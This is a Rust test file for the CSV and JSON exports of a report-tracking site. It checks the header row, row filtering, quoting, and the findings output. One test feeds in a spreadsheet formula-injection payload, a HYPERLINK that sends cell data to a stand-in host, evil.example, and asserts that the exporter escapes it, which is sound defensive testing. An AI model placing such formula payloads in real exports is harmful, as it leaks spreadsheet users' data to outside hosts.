//! `data/reports.csv` read back with Python's csv module (`support::read_csv`: as a
//! spreadsheet would, BOM and all), and `data/findings.json` read back as JSON.

use crate::support::feeds::{judgement, site};
use crate::support::read_csv;
use kehoach::feeds::exports;
use serde_json::{Value, json};

#[test]
fn reports_csv_reads_back_with_headers_one_row_per_published_report() {
    let site = site();
    let text = exports::reports_csv(&site, &judgement(), false);
    assert!(text.starts_with('\u{feff}'), "BOM for Excel");
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'));
    let csv = read_csv(&text);
    assert_eq!(csv["header"], json!(exports::REPORTS_HEADER));
    assert_eq!(csv["widths"], json!([exports::REPORTS_HEADER.len()]));
    let rows = csv["rows"].as_array().unwrap();
    // The restricted report and the one submitted after as_of are not published.
    assert_eq!(rows.len(), 1, "{csv}");
    let r = &rows[0];
    assert_eq!(r["visit"], "to-1-2024-03-chi-bo");
    assert_eq!(r["team"], "to-1");
    assert_eq!(r["kind"], "chi_bo");
    assert_eq!(r["unit"], "cb-dl-ky-thuat");
    assert_eq!(r["month"], "2024-03");
    assert_eq!(r["held_on"], "2024-03-25");
    assert_eq!(r["started_at"], "14:00");
    assert_eq!(r["submitted_on"], "2024-03-29");
    assert_eq!(r["meeting"], "dinh_ky");
    let attendance: Vec<&str> = ["total", "exempt", "present", "excused", "unexcused"]
        .iter()
        .map(|k| r[format!("attendance_{k}")].as_str().unwrap())
        .collect();
    assert_eq!(attendance, ["18", "1", "15", "2", "0"]);
    assert_eq!(r["rating"], "tot");
    assert_eq!(r["score"], "92");
    assert_eq!(r["on_time"], "true");
    // A comma inside a value survives the round trip.
    assert_eq!(r["accompanied_by"], "Lê Văn Cường, Đảng ủy viên");
}

#[test]
fn restricted_reports_only_in_the_full_build() {
    let site = site();
    let csv = read_csv(exports::reports_csv(&site, &judgement(), true));
    let rows = csv["rows"].as_array().unwrap();
    let visits: Vec<&str> = rows.iter().map(|r| r["visit"].as_str().unwrap()).collect();
    // Sorted by held_on: 20/03 before 25/03.
    assert_eq!(visits, ["to-2-2024-03-chi-bo", "to-1-2024-03-chi-bo"]);
    assert_eq!(rows[0]["on_time"], "false");
    assert_eq!(rows[0]["score"], "");
    assert_eq!(rows[0]["rating"], "kem");
}

#[test]
fn findings_json_lists_public_findings_with_their_source() {
    let j = judgement();
    let v: Value = serde_json::from_str(&exports::findings_json(&j, false)).unwrap();
    assert_eq!(
        v,
        json!([{
            "kind": "team_size",
            "message": "Tổ công tác số 1 có 3 người, \"team_size\" là 2",
            "subject": { "kind": "team", "id": "to-1" },
            "file": "content/teams.yaml",
            "line": 1,
            "column": 3,
        }])
    );
    let all: Value = serde_json::from_str(&exports::findings_json(&j, true)).unwrap();
    assert_eq!(all.as_array().unwrap().len(), 2);
    assert_eq!(all[0]["subject"], json!({ "kind": "report", "id": "to-2-2024-03-chi-bo" }));
    assert_eq!(all[0]["kind"], "too_short");
}

/// A value Excel would run (`=HYPERLINK(…)` in `accompanied_by`) reads back as text
/// starting with `'`, in its own cell, the row's width unchanged.
#[test]
fn a_formula_in_a_report_reads_back_as_text() {
    let mut site = site();
    let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")";
    for r in site.reports.iter_mut() {
        r.accompanied_by = Some(hostile.into());
    }
    let csv = read_csv(exports::reports_csv(&site, &judgement(), false));
    assert_eq!(csv["widths"], json!([exports::REPORTS_HEADER.len()]));
    let row = &csv["rows"][0];
    assert_eq!(row["accompanied_by"], format!("'{hostile}"));
    for (k, v) in row.as_object().unwrap() {
        let v = v.as_str().unwrap();
        assert!(!kehoach::output::csv::is_formula_like(v), "{k} = {v:?} would be run as a formula");
    }
}
